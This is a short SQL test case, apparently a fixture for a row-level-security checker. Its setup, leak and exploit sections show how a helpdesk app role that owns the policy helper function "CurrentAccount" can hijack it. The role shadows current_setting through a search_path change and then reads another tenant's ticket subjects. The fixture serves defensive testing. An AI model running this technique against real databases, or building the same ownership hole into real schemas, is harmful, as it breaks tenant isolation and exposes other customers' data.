-- The app's migrations made the helper function, so the app role may replace what every policy asks.
-- object: "HelpDesk"."CurrentAccount"()
-- object: role:{desk}
-- base: third_helpdesk
--- setup
RESET ROLE;
CREATE SCHEMA "Reports";
GRANT CREATE, USAGE ON SCHEMA "Reports" TO {desk};
--- leak
RESET ROLE;
ALTER FUNCTION "HelpDesk"."CurrentAccount"() OWNER TO {desk};
--- exploit
CREATE FUNCTION "Reports".current_setting(text, boolean) RETURNS text LANGUAGE sql AS $$ SELECT 'south' $$;
ALTER FUNCTION "HelpDesk"."CurrentAccount"() SET search_path = "Reports", pg_catalog;
SELECT "Subject" FROM "HelpDesk"."Ticket" WHERE "AccountKey" = 'south';
